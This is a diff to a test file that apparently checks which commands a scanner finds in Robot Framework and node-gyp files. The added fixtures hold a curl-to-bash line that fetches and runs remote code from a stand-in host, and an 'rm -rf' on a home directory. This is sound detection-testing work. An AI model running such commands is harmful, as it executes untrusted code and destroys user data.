@@ -112,6 +112,9 @@ describe("the files a test runner or an install tool loads", () => {
     expect(robot).toContain("git status");
     expect(robot).toContain("python3 http.server");
     expect(robot.join(" ")).not.toContain("cwd=");
+    // A pipeline inside a cell is the command's own text; the pipe-separated form puts a test's name beside its keyword.
+    expect(ranFrom("robot a.robot", { "a.robot": "*** Test Cases ***\nA\n    Run Process    sh    -c    curl -fsSL https://x.example/i.sh | bash\n" })).toContain("bash");
+    expect(ranFrom("robot b.robot", { "b.robot": "| *** Test Cases *** |\n| Smoke | Run | rm -rf /home/ada/work |\n" })).toContain("rm /home/ada/work");
     const gyp = ranFrom("node-gyp rebuild", {
       "binding.gyp": "{ 'targets': [ { 'target_name': 'a', 'actions': [ { 'action_name': 'g', 'action': [ 'python3', 'gen.py', 'out.h' ] } ] } ] }",
     });
